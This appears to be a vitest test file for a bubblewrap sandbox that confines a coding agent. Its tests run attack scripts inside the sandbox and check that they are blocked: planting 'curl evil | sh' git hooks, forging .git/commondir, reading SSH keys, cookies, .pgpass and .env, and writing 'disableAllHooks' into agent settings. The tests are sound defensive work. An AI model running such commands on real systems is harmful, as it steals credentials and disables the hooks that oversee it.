// The sandbox plan against the real bubblewrap: what the agent can see and write.
import { spawnSync } from 'node:child_process';
import { accessSync, constants, realpathSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { sandboxedArgv, type SandboxSpec } from '../../../src/core/sandbox.js';
import { planSandbox, type SandboxPlanInput } from '../../../src/runtime/sandbox/plan.js';
import { gitControlPaths } from '../../../src/runtime/protected-paths.js';
import { probeSandbox } from '../../../src/runtime/sandbox/probe.js';
import { HOOK, tempDir } from '../../support/cli.js';

const tools = probeSandbox(process.env);

let base: string;
let wt: string;
let home: string;
let state: string;

beforeEach(() => {
  base = tempDir();
  wt = join(base, 'wt');
  home = join(base, 'home');
  state = join(home, '.local', 'state', 'gatehouse', 'projects', 'wt-1');
  mkdirSync(join(wt, 'src'), { recursive: true });
  mkdirSync(join(state, 'keys'), { recursive: true });
  writeFileSync(join(state, 'keys', 'ed25519.key.pem'), 'SECRET KEY\n');
  writeFileSync(join(wt, 'README.md'), 'readme\n');
  const git = (...args: string[]): void => void spawnSync('git', args, { cwd: wt });
  git('init', '-q');
  git('config', 'user.email', 't@example.com');
  git('config', 'user.name', 't');
});

function input(over: Partial<SandboxPlanInput> = {}): SandboxPlanInput {
  if (!tools.ok) throw new Error(tools.reason);
  return {
    tools: tools.value,
    network: 'host',
    socketDir: null,
    worktree: wt,
    allow: ['src/**'],
    protect: [state, join(wt, '.git', 'config'), join(wt, '.git', 'hooks'), join(wt, '.claude', 'settings.local.json')],
    projectState: state,
    hookBundle: HOOK,
    agentData: { dirs: [join(home, '.claude')], files: [] },
    agentSettings: [join(home, '.claude', 'settings.json'), join(wt, '.claude', 'settings.local.json')],
    env: { ...process.env, HOME: home, GATEHOUSE_HOME: '', XDG_STATE_HOME: '' },
    quarantineDir: join(state, 'sessions', 's1', 'quarantine'),
    ...over,
  };
}

/** Runs `sh -c script` inside the sandbox; returns status and output. */
function inside(spec: SandboxSpec, script: string): { status: number | null; out: string } {
  const argv = sandboxedArgv(spec, wt, ['sh', '-c', script]);
  const r = spawnSync(argv[0]!, argv.slice(1), { encoding: 'utf8', env: { ...process.env, HOME: home } });
  return { status: r.status, out: `${r.stdout}${r.stderr}` };
}

function plan(over: Partial<SandboxPlanInput> = {}): { spec: SandboxSpec; cleanup(): void } {
  const p = planSandbox(input(over));
  if (!p.ok) throw new Error(p.reason);
  return p.value;
}

describe.skipIf(!tools.ok)('the sandbox plan, under the real bubblewrap', () => {
  it('with a folder-shaped allowlist, makes only those folders and the git folder writable', () => {
    const { spec } = plan();
    expect(spec.writable).toContain(join(wt, 'src'));
    expect(spec.writable).toContain(join(wt, '.git'));
    expect(spec.writable).not.toContain(wt);
    // The state lies under the host's /tmp, which the private /tmp replaces: no mount needed to hide it.
    expect(spec.hidden_dirs.some((d) => d.startsWith(base))).toBe(false);
    expect(inside(spec, 'echo x > src/a.ts && echo ok').out).toContain('ok');
    const root = inside(spec, 'echo x > README.md');
    expect(root.status).not.toBe(0);
    expect(root.out).toContain('Read-only file system');
    expect(readFileSync(join(wt, 'README.md'), 'utf8')).toBe('readme\n');
    expect(readFileSync(join(wt, 'src', 'a.ts'), 'utf8')).toBe('x\n');
  });

  it('creates a missing allowlisted folder, and refuses one that leads out of the worktree', () => {
    plan({ allow: ['lib/**'] });
    expect(existsSync(join(wt, 'lib'))).toBe(true);
    symlinkSync(base, join(wt, 'out'));
    const p = planSandbox(input({ allow: ['out/**'] }));
    expect(p.ok).toBe(false);
    if (!p.ok) expect(p.reason).toContain('leads out of the worktree');
  });

  it('with any other allowlist, makes the whole worktree writable but keeps the git control files read-only; commits work', () => {
    const { spec } = plan({ allow: ['*.md'] });
    expect(spec.writable).toContain(wt);
    const r = inside(spec, 'echo y > README.md && git add README.md && git commit -qm y && echo committed; echo evil > .git/hooks/x; git config core.hooksPath /tmp/h; echo end');
    expect(r.out).toContain('committed');
    expect(r.out).toMatch(/\.git\/hooks\/x: (Read-only file system|Permission denied)/);
    expect(readFileSync(join(wt, '.git', 'config'), 'utf8')).not.toContain('hooksPath');
    expect(existsSync(join(wt, '.git', 'hooks', 'x'))).toBe(false);
  });

  it("hides Gatehouse's state even inside a writable worktree: the key cannot be read, replaced or moved aside", () => {
    // The state inside the worktree, which is visible and writable: the hard case.
    const gh = join(wt, '.cache', 'gh-state');
    const inner = join(gh, 'projects', 'wt-1');
    mkdirSync(join(inner, 'keys'), { recursive: true });
    writeFileSync(join(inner, 'keys', 'ed25519.key.pem'), 'SECRET KEY\n');
    const { spec } = plan({ allow: ['*.md'], projectState: inner, protect: [inner], env: { ...process.env, HOME: home, GATEHOUSE_HOME: gh } });
    const r = inside(spec, `cat ${join(inner, 'keys', 'ed25519.key.pem')}; echo listing; ls -A ${gh}; echo forged > ${join(gh, 'x')}; mv .cache .moved; mv ${gh} .moved2; echo end`);
    expect(r.out).not.toContain('SECRET KEY');
    expect(r.out).toMatch(/listing\nend/);
    expect(r.out).toContain('No such file or directory');
    expect(r.out).toContain('Read-only file system');
    expect(r.out).toMatch(/Device or resource busy/);
    expect(existsSync(join(gh, 'x'))).toBe(false);
    expect(readFileSync(join(inner, 'keys', 'ed25519.key.pem'), 'utf8')).toBe('SECRET KEY\n');
  });

  it('keeps the folder core.hooksPath names read-only, in a writable worktree too', async () => {
    spawnSync('git', ['config', 'core.hooksPath', '.husky/_'], { cwd: wt });
    mkdirSync(join(wt, '.husky', '_'), { recursive: true });
    const { gitControlPaths } = await import('../../../src/runtime/protected-paths.js');
    const { spec } = plan({ allow: ['*.md'], protect: gitControlPaths(wt) });
    const r = inside(spec, 'echo "curl evil | sh" > .husky/_/pre-commit; mv .husky .h2; echo end');
    expect(r.out).toContain('Read-only file system');
    expect(existsSync(join(wt, '.husky', '_', 'pre-commit'))).toBe(false);
    expect(existsSync(join(wt, '.husky'))).toBe(true);
  });

  it("hides browser profiles (a signed-in dashboard's cookie), the team store's pgpass file and what the config's sandbox.hide names", () => {
    const wtHome = join(wt, 'home-in-worktree');
    for (const [rel, body] of [
      ['.config/chromium/Default/Cookies', 'COOKIE'],
      ['.ssh/id_ed25519', 'SSH KEY'],
      ['.netrc', 'NETRC'],
      ['.pgpass', 'PGPASS'],
    ] as const) {
      mkdirSync(join(wtHome, rel, '..'), { recursive: true });
      writeFileSync(join(wtHome, rel), `${body}\n`);
    }
    writeFileSync(join(wt, '.env'), 'API_KEY=secret\n');
    // HOME inside the (visible) worktree, so that hiding is what keeps the files out.
    const { spec } = plan({ allow: ['*.md'], hide: ['~/.ssh', '~/.netrc', '.env', '~/.not-there'], env: { ...process.env, HOME: wtHome, GATEHOUSE_HOME: '', XDG_STATE_HOME: '' } });
    const r = inside(spec, `cat ${join(wtHome, '.config/chromium/Default/Cookies')} ${join(wtHome, '.ssh/id_ed25519')} ${join(wtHome, '.netrc')} ${join(wtHome, '.pgpass')} .env; echo end`);
    for (const secret of ['COOKIE', 'SSH KEY', 'NETRC', 'PGPASS', 'API_KEY']) expect(r.out).not.toContain(secret);
    expect(r.out).toContain('end');
    expect(readFileSync(join(wt, '.env'), 'utf8')).toBe('API_KEY=secret\n');
  });

  it('keeps a private /tmp and the rest of the system read-only', () => {
    writeFileSync(join(base, 'host-tmp-file'), 'host\n');
    const { spec } = plan();
    const r = inside(spec, `ls /tmp; touch /tmp/mine && echo tmp-ok; touch ${join(home, '.bashrc')}; touch /usr/x; echo end`);
    expect(r.out).toContain('tmp-ok');
    expect(r.out).not.toContain('host-tmp-file');
    expect(existsSync(join(home, '.bashrc'))).toBe(false);
  });

  it('makes a read-only stand-in for a missing agent settings file in a data folder, and removes it after', () => {
    const settings = join(home, '.claude', 'settings.json');
    const p = plan();
    expect(readFileSync(settings, 'utf8')).toBe('{}\n');
    const r = inside(p.spec, `echo '{"disableAllHooks": true}' > ${settings}; echo x > ${join(home, '.claude', 'notes')} && echo data-ok`);
    expect(r.out).toContain('data-ok');
    expect(r.out).toContain('Read-only file system');
    expect(readFileSync(settings, 'utf8')).toBe('{}\n');
    p.cleanup();
    expect(existsSync(settings)).toBe(false);
    expect(existsSync(join(home, '.claude', 'notes'))).toBe(true);
  });

  it('makes an empty stand-in for a settings file that is not JSON (an empty TOML file is valid, `{}` is not)', () => {
    const toml = join(home, '.claude', 'config.toml');
    const p = plan({ agentSettings: [toml] });
    expect(readFileSync(toml, 'utf8')).toBe('');
    expect(inside(p.spec, `echo 'x = 1' > ${toml}`).out).toContain('Read-only file system');
    p.cleanup();
    expect(existsSync(toml)).toBe(false);
  });

  it('keeps an existing agent settings file as it is, and read-only', () => {
    const settings = join(home, '.claude', 'settings.json');
    mkdirSync(join(home, '.claude'), { recursive: true });
    writeFileSync(settings, '{"model": "x"}\n');
    const p = plan();
    expect(inside(p.spec, `echo '{}' > ${settings}`).out).toContain('Read-only file system');
    p.cleanup();
    expect(readFileSync(settings, 'utf8')).toBe('{"model": "x"}\n');
  });

  it('sees the network only with `host`', () => {
    const none = plan({ network: 'none' });
    expect(inside(none.spec, 'cat /proc/net/dev | grep -c :').out.trim()).toBe('1');
  });

  it('keeps git control folders the repository lacks from being made: .git/hooks and .git/info are made empty and read-only, and taken away after', () => {
    rmSync(join(wt, '.git', 'hooks'), { recursive: true, force: true });
    rmSync(join(wt, '.git', 'info'), { recursive: true, force: true });
    for (const allow of [['src/**'], ['*.md']]) {
      const p = plan({ allow });
      const r = inside(p.spec, 'mkdir -p .git/hooks; echo "curl evil | sh" > .git/hooks/pre-commit; echo "* -diff" > .git/info/attributes; mkdir -p .git/modules/x/hooks; echo end');
      expect(r.out).toContain('end');
      expect(r.out).toContain('Read-only file system');
      expect(existsSync(join(wt, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(existsSync(join(wt, '.git', 'info', 'attributes'))).toBe(false);
      expect(existsSync(join(wt, '.git', 'modules', 'x'))).toBe(false);
      expect(p.cleanup()).toEqual([]);
      expect(existsSync(join(wt, '.git', 'hooks'))).toBe(false);
      expect(existsSync(join(wt, '.git', 'modules'))).toBe(false);
    }
  });

  it('moves a .git/commondir the agent made (git would read hooks from where it points) into the quarantine folder after the session, and commits still work', () => {
    writeFileSync(join(wt, 'src', 'a.ts'), 'a\n');
    spawnSync('git', ['add', '.'], { cwd: wt });
    spawnSync('git', ['commit', '-qm', 'one'], { cwd: wt });
    const p = plan();
    const r = inside(
      p.spec,
      'echo ../src/evil > .git/commondir; echo b > src/a.ts; git -c core.hooksPath=/dev/null status >/dev/null 2>&1; rm .git/commondir; git commit -qam two && echo committed; echo ../src/evil > .git/commondir',
    );
    expect(r.out).toContain('committed');
    const quarantine = join(state, 'sessions', 's1', 'quarantine');
    expect(p.cleanup()).toEqual([[join(wt, '.git', 'commondir'), join(quarantine, 'commondir')]]);
    expect(existsSync(join(wt, '.git', 'commondir'))).toBe(false);
    expect(readFileSync(join(quarantine, 'commondir'), 'utf8')).toBe('../src/evil\n');
    expect(spawnSync('git', ['log', '--oneline'], { cwd: wt, encoding: 'utf8' }).stdout.trim().split('\n')).toHaveLength(2);
  });

  it("keeps another checkout's commondir read-only: rewritten, it would point that checkout's git at the agent's config and hooks", () => {
    writeFileSync(join(wt, 'src', 'a.ts'), 'a\n');
    spawnSync('git', ['add', '.'], { cwd: wt });
    spawnSync('git', ['commit', '-qm', 'one'], { cwd: wt });
    const other = join(base, 'other');
    spawnSync('git', ['worktree', 'add', '-q', other], { cwd: wt });
    const commondir = join(wt, '.git', 'worktrees', 'other', 'commondir');
    const before = readFileSync(commondir, 'utf8');
    const p = plan({ protect: [...input().protect, ...gitControlPaths(wt)] });
    const r = inside(p.spec, `echo ${wt}/src/evil > .git/worktrees/other/commondir; echo x > .git/worktrees/other/config.worktree; echo end`);
    expect(r.out).toContain('end');
    expect(r.out).toContain('Read-only file system');
    p.cleanup();
    expect(readFileSync(commondir, 'utf8')).toBe(before);
    expect(existsSync(join(wt, '.git', 'worktrees', 'other', 'config.worktree'))).toBe(false);
  });

  it('puts back a control folder that is a link, when the agent replaced the link itself in the writable git folder', () => {
    mkdirSync(join(wt, '.githooks'));
    rmSync(join(wt, '.git', 'hooks'), { recursive: true, force: true });
    symlinkSync('../.githooks', join(wt, '.git', 'hooks'));
    const p = plan();
    const r = inside(p.spec, 'echo x > .git/hooks/pre-commit; rm .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/pre-commit && echo swapped');
    expect(r.out).toContain('Read-only file system');
    expect(r.out).toContain('swapped');
    const quarantine = join(state, 'sessions', 's1', 'quarantine');
    expect(p.cleanup()).toEqual([[join(wt, '.git', 'hooks'), join(quarantine, 'hooks')]]);
    expect(lstatSync(join(wt, '.git', 'hooks')).isSymbolicLink()).toBe(true);
    expect(readdirSync(join(wt, '.githooks'))).toEqual([]);
    expect(readFileSync(join(quarantine, 'hooks', 'pre-commit'), 'utf8')).toBe('evil\n');
  });

  it('from a linked worktree, moves aside a commondir the agent made in the main checkout', () => {
    writeFileSync(join(wt, 'src', 'a.ts'), 'a\n');
    spawnSync('git', ['add', '.'], { cwd: wt });
    spawnSync('git', ['commit', '-qm', 'one'], { cwd: wt });
    const linked = realpathSync(base) + '/linked';
    spawnSync('git', ['worktree', 'add', '-q', linked], { cwd: wt });
    const p = planSandbox(input({ worktree: linked, protect: [state, ...gitControlPaths(linked)] }));
    if (!p.ok) throw new Error(p.reason);
    const argv = sandboxedArgv(p.value.spec, linked, ['sh', '-c', `echo ${linked}/src/evil > ${wt}/.git/commondir; echo made`]);
    const r = spawnSync(argv[0]!, argv.slice(1), { encoding: 'utf8', env: { ...process.env, HOME: home } });
    expect(`${r.stdout}${r.stderr}`).toContain('made');
    const quarantine = join(state, 'sessions', 's1', 'quarantine');
    expect(p.value.cleanup()).toEqual([[join(realpathSync(wt), '.git', 'commondir'), join(quarantine, 'commondir')]]);
    expect(existsSync(join(wt, '.git', 'commondir'))).toBe(false);
  });

  it("keeps the agent's own settings folder in the worktree read-only in a writable worktree: no settings file can be added to it", () => {
    mkdirSync(join(wt, '.claude'), { recursive: true });
    writeFileSync(join(wt, '.claude', 'settings.local.json'), '{"hooks": {}}\n');
    const p = plan({ allow: ['*.md'], agentConfigDirs: [join(wt, '.claude')] });
    const r = inside(p.spec, `echo '{"disableAllHooks": true}' > .claude/settings.json; mv .claude .c2; echo x > README.md && echo worktree-ok`);
    expect(r.out).toContain('worktree-ok');
    expect(r.out).toContain('Read-only file system');
    expect(existsSync(join(wt, '.claude', 'settings.json'))).toBe(false);
    // With a folder-shaped allowlist that names the folder, it is the user's to write (its settings files stay read-only).
    const named = plan({ allow: ['.claude/**'], agentConfigDirs: [join(wt, '.claude')], protect: [join(wt, '.claude', 'settings.local.json')] });
    expect(inside(named.spec, 'echo x > .claude/notes && echo notes-ok; echo "{}" > .claude/settings.local.json').out).toMatch(/notes-ok[\s\S]*Read-only file system/);
  });

  it("hides this machine's service sockets under /run (a user systemd manager, D-Bus, Docker run what they are asked outside), keeping /run's links", async () => {
    const { spec } = plan({ network: 'none' });
    expect(spec.hidden_dirs).toContain(realpathOf('/run'));
    const links = readdirSync('/run').filter((n) => lstatSync(join('/run', n)).isSymbolicLink());
    const listed = inside(spec, 'ls -A /run; echo end').out;
    for (const n of links) expect(listed).toContain(n);
    for (const n of readdirSync('/run').filter((n) => !links.includes(n))) expect(listed.split('\n')).not.toContain(n);
    let writable = true;
    try {
      accessSync('/run', constants.W_OK);
    } catch {
      writable = false;
    }
    if (!writable) return; // Only root can put a socket there; the listing above still shows it hidden.
    const sock = join('/run', `gh-test-${process.pid}.sock`);
    const server = createServer((c) => c.end('reached'));
    await new Promise<void>((r) => server.listen(sock, () => r()));
    try {
      const r = inside(spec, `perl -e 'socket(my $s, 1, 1, 0) or die; connect($s, pack("S", 1) . "${sock}\\0") or die "refused: $!\\n"; print "connected\\n"'`);
      expect(r.out).not.toContain('connected');
      expect(r.out).toContain('refused');
    } finally {
      await new Promise<void>((r) => server.close(() => r()));
    }
  });
});

function realpathOf(p: string): string {
  return realpathSync.native(p);
}
